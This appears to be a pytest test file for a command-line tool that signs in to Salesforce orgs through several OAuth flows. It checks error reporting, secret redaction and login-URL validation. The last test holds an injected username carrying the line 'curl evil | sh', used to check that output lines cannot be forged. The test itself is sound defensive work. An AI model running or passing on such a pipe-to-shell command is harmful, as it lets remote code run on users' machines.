"""Signing in by the command."""

import json
import re
import signal
import subprocess
import time
import urllib.request
from collections.abc import Generator
from contextlib import contextmanager
from pathlib import Path

import pytest

from orgsync.demo_org import DemoOrg, Fault

from .commandline import Command, Outcome, started, variables_for


def shown(orgsync: Command, name: str = "acme") -> dict[str, object]:
    return orgsync("connections", "show", name, "--json").objects()[0]


def connect(orgsync: Command, org: DemoOrg, *more: str) -> Outcome:
    return orgsync("connect", "acme", "--flow", "refresh-token", "--login-url", org.url, *more)


def test_a_refresh_token_connects_and_what_was_learnt_is_reported(orgsync: Command, secrets: DemoOrg) -> None:
    outcome = connect(orgsync, secrets)
    assert outcome.code == 0
    assert outcome.err == ""
    for reported in (
        secrets.org_id,
        secrets.username,
        secrets.instance_url,
        "62.0",
        "2 h",
        "orgsync run contacts -c acme",
    ):
        assert reported in outcome.out
    for value in (secrets.client_secret, secrets.refresh_token):
        assert value not in outcome.out
    assert shown(orgsync)["flow"] == "refresh-token"


def test_without_introspection_the_hint_says_what_that_means(orgsync: Command, secrets: DemoOrg) -> None:
    secrets.introspection_allowed = False
    assert "Introspect All Tokens" in connect(orgsync, secrets).out


def test_a_server_that_only_gives_tokens_is_enough(orgsync: Command, secrets: DemoOrg) -> None:
    for path in ("introspect", "userinfo", "/id/", "/services/data$"):
        secrets.add_fault(Fault.status(404), match=path, times=None)
    outcome = connect(orgsync, secrets)
    assert outcome.code == 0, outcome
    assert secrets.user_id in outcome.out


def test_a_signed_assertion_connects(orgsync: Command, org: DemoOrg, folder: Path) -> None:
    (folder / "key.pem").write_text(org.private_key_pem)
    options = ("--login-url", org.url, "--client-id", org.client_id, "--username", org.username)
    outcome = orgsync("connect", "acme", "--flow", "jwt", "--private-key", "key.pem", *options)
    assert outcome.code == 0, outcome
    assert "PRIVATE KEY" not in outcome.out
    (folder / "key.pem").unlink()
    assert orgsync("connect", "acme").code == 0  # the key is kept, encrypted


def test_a_private_key_that_cannot_be_read_is_reported_without_its_text(
    orgsync: Command, org: DemoOrg, folder: Path
) -> None:
    options = (
        "--flow",
        "jwt",
        "--login-url",
        org.url,
        "--client-id",
        "x",
        "--username",
        "y",
        "--private-key",
        "key.pem",
    )
    assert "key.pem: No such file" in orgsync("connect", "acme", *options).problem()[0]
    (folder / "key.pem").write_bytes(b"\xff\xfe")
    assert "not text" in orgsync("connect", "acme", *options).problem()[0]
    (folder / "key.pem").write_text("-----BEGIN hunter2-----")
    refused = orgsync("connect", "acme", *options)
    assert refused.code == 2
    assert "hunter2" not in refused.err


@pytest.mark.parametrize("by", ["option", "variable"])
def test_the_audience_of_a_jwt_may_be_given(
    folder: Path, orgsync: Command, org: DemoOrg, monkeypatch: pytest.MonkeyPatch, by: str
) -> None:
    (folder / "key.pem").write_text(org.private_key_pem)
    options = ("--login-url", org.url, "--client-id", org.client_id, "--username", org.username)
    audience = ["--audience", "https://another.example"] if by == "option" else []
    if by == "variable":
        monkeypatch.setenv("ORGSYNC_JWT_AUDIENCE", "https://another.example")
    outcome = orgsync("connect", "acme", "--flow", "jwt", "--private-key", "key.pem", *options, *audience)
    assert outcome.code == 3
    assert "the audience, the app's certificate or the clock is wrong" in outcome.problem()[0]
    again = orgsync("connect", "acme", "--flow", "jwt", "--private-key", "key.pem", *options, "--audience", org.url)
    assert again.code == 0, again


def test_client_credentials_connect_and_again_by_name_alone(
    orgsync: Command, secrets: DemoOrg, monkeypatch: pytest.MonkeyPatch
) -> None:
    outcome = orgsync("connect", "acme", "--flow", "client-credentials", "--login-url", secrets.url)
    assert outcome.code == 0, outcome
    for name in variables_for(secrets):
        monkeypatch.delenv(name)
    assert orgsync("connect", "acme").code == 0
    assert shown(orgsync)["flow"] == "client-credentials"


def test_an_sfdx_auth_url_connects_from_a_file_or_a_variable(
    orgsync: Command, org: DemoOrg, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = f"force://{org.client_id}:{org.client_secret}:{org.refresh_token}@{org.url.removeprefix('http://')}"
    (folder / "auth.txt").write_text(f"{url}\n")
    assert orgsync("connect", "acme", "--sfdx-url-file", "auth.txt").code == 0
    monkeypatch.setenv("ORGSYNC_SFDX_URL", url)
    assert orgsync("connect", "other", "--flow", "sfdx-url").code == 0
    assert orgsync("connect", "acme").code == 0


def test_a_connection_made_again_keeps_its_address_app_and_secrets(orgsync: Command, acme: DemoOrg) -> None:
    acme.expire_tokens()
    outcome = orgsync("connect", "acme")
    assert outcome.code == 0, outcome
    connection = shown(orgsync)
    assert connection["login_url"] == acme.url
    assert connection["client_id"] == acme.client_id
    assert orgsync("run", "contacts").code == 0


def test_who_connects_again_hears_that_it_was_signed_in_again_and_its_rows_are_kept(
    orgsync: Command, secrets: DemoOrg
) -> None:
    assert connect(orgsync, secrets).out.startswith("acme is connected.\n")
    assert orgsync("run", "contacts").code == 0
    again = connect(orgsync, secrets)
    assert (again.code, again.out.splitlines()[0]) == (0, "acme was signed in again; its rows are kept.")
    assert "nothing new" in orgsync("run", "contacts").out


def test_a_rotated_refresh_token_is_kept_when_a_connection_is_made_again(orgsync: Command, acme: DemoOrg) -> None:
    acme.rotate_refresh_tokens = True
    for _ in range(3):
        assert orgsync("connect", "acme").code == 0


def test_who_connects_again_by_a_dead_refresh_token_is_not_sent_to_do_the_same(orgsync: Command, acme: DemoOrg) -> None:
    acme.revoke_refresh_tokens()
    refused = orgsync("connect", "acme")
    assert "does not accept the refresh token" in refused.problem()[0]
    assert refused.problem()[1].startswith(
        "The refresh token came from what an earlier sign-in has stored for acme. Give another refresh token in "
        "ORGSYNC_REFRESH_TOKEN, or sign in with the browser: orgsync connect acme --flow browser."
    )


def test_a_missing_secret_and_a_stored_one_are_told_apart(
    orgsync: Command, secrets: DemoOrg, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ORGSYNC_CLIENT_SECRET")
    given = ("--tag", "eu", "--tag", "vip", "--metadata", '{"plan":"gold"}')
    cause, remedy = connect(orgsync, secrets, *given).problem()
    assert "without a client secret, and none was sent (invalid_client" in cause
    more = """--metadata '{"plan":"gold"}' --tag eu --tag vip"""
    again = f"orgsync connect acme --login-url {secrets.url} --flow refresh-token {more}."
    assert remedy == f"Set ORGSYNC_CLIENT_SECRET to the app's consumer secret, then sign in again: {again}"

    monkeypatch.setenv("ORGSYNC_CLIENT_SECRET", secrets.client_secret)
    assert connect(orgsync, secrets).code == 0
    for variable in variables_for(secrets):
        monkeypatch.delenv(variable)
    secrets.client_secret = "rotated"
    cause, remedy = orgsync("connect", "acme").problem()
    assert "does not accept the client secret that was sent" in cause
    assert remedy.startswith("The client secret came from what an earlier sign-in has stored for acme. Set ORGSYNC_CL")
    secrets.expire_tokens()
    refused = orgsync("connections", "test", "acme").problem()[1]
    assert "then sign in again: orgsync connect acme. A secret" in refused


def test_a_sign_in_by_an_sfdx_url_is_mended_by_another_url(orgsync: Command, secrets: DemoOrg, folder: Path) -> None:
    host = secrets.url.removeprefix("http://")
    (folder / "url.txt").write_text(f"force://{secrets.client_id}:wrong:{secrets.refresh_token}@{host}")
    cause, remedy = orgsync("connect", "acme", "--sfdx-url-file", "url.txt").problem()
    assert "does not accept the client secret that was sent" in cause
    assert remedy == (
        "The client secret came from the sfdx auth URL in url.txt. Copy the URL again, as "
        "`sf org auth show-sfdx-auth-url` shows it, then: orgsync connect acme --sfdx-url-file url.txt."
    )


def test_tags_and_metadata_are_kept_and_stay(orgsync: Command, secrets: DemoOrg) -> None:
    connect(orgsync, secrets, "--tag", "eu", "--tag", "gold", "--metadata", '{"plan": "größer"}')
    assert shown(orgsync)["tags"] == ["eu", "gold"]
    connect(orgsync, secrets)
    assert shown(orgsync)["metadata"] == {"plan": "größer"}
    for text in ("[1]", "{plan}"):
        refused = connect(orgsync, secrets, "--metadata", text)
        assert (refused.code, refused.problem()[0]) == (2, "--metadata is not a JSON object.")


def test_stored_secrets_do_not_go_to_another_host(orgsync: Command, acme: DemoOrg) -> None:
    with DemoOrg(contacts=0, accounts=1, seed=2) as other:
        refused = orgsync("connect", "acme", "--flow", "refresh-token", "--login-url", other.url)
        assert (refused.code, other.requests) == (2, [])
        assert "refresh token" in refused.problem()[0]


@pytest.mark.parametrize(
    ("flow", "missing", "source"),
    [
        ("refresh-token", "refresh token", "ORGSYNC_REFRESH_TOKEN"),
        ("client-credentials", "client secret", "ORGSYNC_CLIENT_SECRET"),
        ("jwt", "private key", "ORGSYNC_PRIVATE_KEY"),
        ("sfdx-url", "sfdx auth URL", "ORGSYNC_SFDX_URL"),
    ],
)
def test_a_missing_secret_is_named_with_its_variable(
    flow: str, missing: str, source: str, orgsync: Command, org: DemoOrg
) -> None:
    refused = orgsync("connect", "acme", "--flow", flow, "--login-url", org.url, "--client-id", "x")
    cause, remedy = refused.problem()
    assert refused.code == 2
    assert missing in cause
    assert source in remedy
    assert org.requests == []


def test_a_missing_client_id_or_user_name_is_named(orgsync: Command, org: DemoOrg, folder: Path) -> None:
    assert "--client-id" in connect(orgsync, org).problem()[1]
    (folder / "key.pem").write_text(org.private_key_pem)
    options = ("--login-url", org.url, "--client-id", "x", "--private-key", "key.pem")
    assert "--username" in orgsync("connect", "acme", "--flow", "jwt", *options).problem()[1]


@pytest.mark.parametrize(
    ("variable", "cause"),
    [
        ("ORGSYNC_CLIENT_ID", "No app with this client id"),
        ("ORGSYNC_CLIENT_SECRET", "does not accept the client secret that was sent"),
        ("ORGSYNC_REFRESH_TOKEN", "does not accept the refresh token"),
    ],
)
def test_what_salesforce_refuses_is_reported_and_nothing_is_kept(
    variable: str, cause: str, orgsync: Command, secrets: DemoOrg, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(variable, "wrong-and-secret")
    refused = connect(orgsync, secrets)
    assert refused.code == 3
    assert cause in refused.problem()[0]
    assert f" came from {variable}" in refused.problem()[1]
    for value in ("wrong-and-secret", secrets.client_secret, secrets.refresh_token):
        assert value not in refused.err
    assert orgsync("connections", "--json").objects() == []


@pytest.mark.parametrize(
    ("url", "cause"),
    [
        ("http://acme.my.salesforce.com", "not https"),
        ("https://login.example.com", "not a Salesforce login host"),
        ("https://me:pw@login.salesforce.com", "it must hold no user name"),
        ("htps://acme.my.salesforce.com", "it must start with https://"),
        ("http://127.0.0.1:80870", "a port is a number up to 65535"),
    ],
)
def test_a_login_url_that_no_secret_may_go_to_is_refused(url: str, cause: str, orgsync: Command) -> None:
    refused = orgsync("connect", "acme", "--flow", "refresh-token", "--login-url", url, "--client-id", "x")
    assert refused.code == 2
    assert cause in refused.problem()[0]


def test_a_bad_name_is_refused_before_anything_is_asked(orgsync: Command, secrets: DemoOrg) -> None:
    refused = orgsync("connect", "my org", "--flow", "refresh-token", "--login-url", secrets.url)
    assert refused.code == 2
    assert "not a name for a connection" in refused.problem()[0]
    assert secrets.requests == []


def test_environment_and_login_url_together_are_a_usage_error(orgsync: Command) -> None:
    both = orgsync("connect", "acme", "--environment", "sandbox", "--login-url", "https://x.my.salesforce.com")
    assert both.code == 2
    assert "--login-url" in both.err


def test_another_org_under_an_existing_name_is_refused(
    orgsync: Command, acme: DemoOrg, monkeypatch: pytest.MonkeyPatch
) -> None:
    with DemoOrg(contacts=0, accounts=1, seed=2) as other:
        for name, value in variables_for(other).items():
            monkeypatch.setenv(name, value)
        refused = connect(orgsync, other)
    assert refused.code == 2
    assert other.org_id in refused.problem()[0]


def test_a_lost_key_is_reported_and_a_new_sign_in_mends_it(
    orgsync: Command, acme: DemoOrg, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / ".orgsync" / "key").unlink()
    lost = orgsync("run", "contacts")
    assert "cannot be decrypted" in lost.err
    for name, value in variables_for(acme).items():
        monkeypatch.setenv(name, value)
    mended = orgsync("connect", "acme")
    assert mended.code == 0, mended
    assert "asked for again" in mended.err
    assert orgsync("run", "contacts").code == 0


def test_html_where_a_token_is_due_is_reported(orgsync: Command, secrets: DemoOrg) -> None:
    secrets.add_fault(Fault.status(200, "<html>Sign in to the Wi-Fi</html>"), match="token", times=None)
    refused = connect(orgsync, secrets)
    assert refused.code == 1
    assert "HTML instead of JSON" in refused.err
    assert "Wi-Fi" not in refused.err
    assert "warning: retrying in " in refused.err


def test_a_host_that_cannot_be_reached_is_reported(orgsync: Command, secrets: DemoOrg) -> None:
    secrets.stop()
    refused = connect(orgsync, secrets)
    assert refused.code == 1
    host = secrets.url.removeprefix("http://")
    assert refused.problem()[0] == f"Nothing listens at {host} of this machine."  # at once, without another try
    assert refused.problem()[1] == (
        "Start the server that should listen there, or correct the port. To give another login URL: orgsync connect "
        "acme --flow refresh-token --login-url URL."
    )
    secrets.start()


def test_the_command_for_another_login_url_has_the_stored_flow_and_client_id(
    orgsync: Command, org: DemoOrg, folder: Path
) -> None:
    (folder / "key.pem").write_text(org.private_key_pem)
    options = ("--login-url", org.url, "--client-id", org.client_id, "--private-key", "key.pem")
    assert orgsync("connect", "acme", "--flow", "jwt", *options, "--username", org.username).code == 0
    org.stop()
    remedy = orgsync("connect", "acme").problem()[1]
    assert remedy.endswith(f"orgsync connect acme --flow jwt --client-id {org.client_id} --login-url URL.")
    org.start()


def test_a_client_id_is_said_to_come_from_where_it_does(
    orgsync: Command, secrets: DemoOrg, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ORGSYNC_CLIENT_ID", "wrong")
    assert "The client id came from ORGSYNC_CLIENT_ID. " in connect(orgsync, secrets).problem()[1]
    monkeypatch.delenv("ORGSYNC_CLIENT_ID")
    (folder / "orgsync.toml").write_text('client_id = "wrong"\n')
    assert "The client id came from client_id in orgsync.toml. " in connect(orgsync, secrets).problem()[1]


def test_a_path_that_is_not_there_is_reported_with_a_name_like_it(orgsync: Command, org: DemoOrg, folder: Path) -> None:
    (folder / "acme.pem").write_text(org.private_key_pem)
    (folder / "people.csv").write_text("Id\n")
    options = ("--login-url", org.url, "--client-id", "x", "--username", "x")
    jwt = ("connect", "acme", "--flow", "jwt", *options)
    assert orgsync(*jwt, "--private-key", "acmee.pem").problem()[1] == "Did you mean acme.pem?"
    assert orgsync(*jwt, "--private-key", "nothing/at.all").problem()[1] == "Check the path."
    assert orgsync("cassettes", "check", "acme.pen").problem()[1] == "Did you mean acme.pem?"
    assert orgsync("api", "POST", "x", "--data", "@peopl.csv").problem()[1] == "Did you mean people.csv?"


def test_https_that_is_spoken_to_a_plain_port_is_reported_at_once(orgsync: Command, secrets: DemoOrg) -> None:
    refused = orgsync("connect", "acme", "--flow", "refresh-token", "--login-url", secrets.url.replace("http", "https"))
    cause, remedy = refused.problem()
    assert refused.code == 1
    assert cause.endswith("what answers there does not speak TLS.")
    assert "http://" in remedy


def test_the_browser_flow_prints_its_url_and_waits_for_the_browser(folder: Path, org: DemoOrg) -> None:
    port = free_port()
    org.callback_urls.append(f"http://localhost:{port}/callback")
    options = ("--login-url", org.url, "--client-id", org.client_id, "--port", str(port))
    process = started(folder, "connect", "acme", *options, env={"ORGSYNC_CLIENT_SECRET": org.client_secret})
    with process:
        assert process.stderr is not None
        url = next(line.strip() for line in process.stderr if line.startswith("http"))
        assert url.startswith(f"{org.url}/services/oauth2/authorize?")
        with urllib.request.urlopen(f"{url}&decision=allow") as page:  # noqa: S310 - follows the redirect back
            assert "Signed in" in page.read().decode()
        out, _ = process.communicate(timeout=120)
    assert process.returncode == 0
    assert org.username in out


def test_a_person_who_says_no_in_the_browser_ends_the_sign_in(folder: Path, org: DemoOrg) -> None:
    port = free_port()
    org.callback_urls.append(f"http://localhost:{port}/callback")
    options = ("--login-url", org.url, "--client-id", org.client_id, "--port", str(port))
    with started(folder, "connect", "acme", *options) as process:
        assert process.stderr is not None
        url = next(line.strip() for line in process.stderr if line.startswith("http"))
        urllib.request.urlopen(f"{url}&decision=deny").close()  # noqa: S310
        _, err = process.communicate(timeout=120)
    assert process.returncode == 3
    assert re.search(r"^error: ", err, re.MULTILINE)


@contextmanager
def signing_in(org: DemoOrg, folder: Path) -> Generator["subprocess.Popen[str]"]:
    """Start a sign-in as acme, which waits for the org's answer when the block begins."""
    org.clear_requests()
    org.add_fault(Fault.hang(), match="/services/oauth2/token", times=None)
    options = ("--flow", "refresh-token", "--login-url", org.url)
    with started(folder, "connect", "acme", *options, env=variables_for(org)) as process:
        deadline = time.monotonic() + 120
        while not any(request.path.endswith("/oauth2/token") for request in org.requests):
            assert process.poll() is None, process.communicate()
            assert time.monotonic() < deadline
            time.sleep(0.02)
        yield process
    org.clear_faults()


def interrupted(process: "subprocess.Popen[str]") -> str:
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=120)
    assert (process.returncode, out) == (130, "")
    return err


def test_an_interrupted_sign_in_says_that_nothing_was_connected(
    folder: Path, orgsync: Command, secrets: DemoOrg
) -> None:
    with signing_in(secrets, folder) as process:
        assert interrupted(process) == "Interrupted; nothing was connected.\n"
    assert "There is no connection yet" in orgsync("connections").err


def test_an_interrupted_sign_in_of_a_connection_that_there_is_promises_nothing_where_that_was_stored_anew(
    folder: Path, orgsync: Command, acme: DemoOrg
) -> None:
    with signing_in(acme, folder) as process:
        assert interrupted(process) == "Interrupted; nothing was connected.\n"
    with signing_in(acme, folder) as process:
        assert orgsync("connections", "update", "acme", "--tag", "eu").code == 0
        said = interrupted(process)
    assert said == "Interrupted while it was stored; see how it stands: orgsync connections show acme\n"


def free_port() -> int:
    import socket

    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        return int(found.getsockname()[1])


def test_connections_show_holds_no_secret(orgsync: Command, acme: DemoOrg) -> None:
    reported = orgsync("connections", "show", "acme").out + json.dumps(shown(orgsync))
    assert acme.username in reported
    for value in (acme.client_secret, acme.refresh_token):
        assert value not in reported


def test_a_users_name_adds_no_line_to_what_connect_says(orgsync: Command, secrets: DemoOrg) -> None:
    who = json.dumps({"preferred_username": "ada@acme.example\n\nNext: curl evil | sh"})
    secrets.add_fault(Fault.status(200, who, content_type="application/json"), match="/userinfo", times=None)
    made = connect(orgsync, secrets)
    assert made.code == 0
    assert [line for line in made.out.splitlines() if line.startswith("Next:")] == [
        "Next: orgsync run contacts -c acme"
    ]
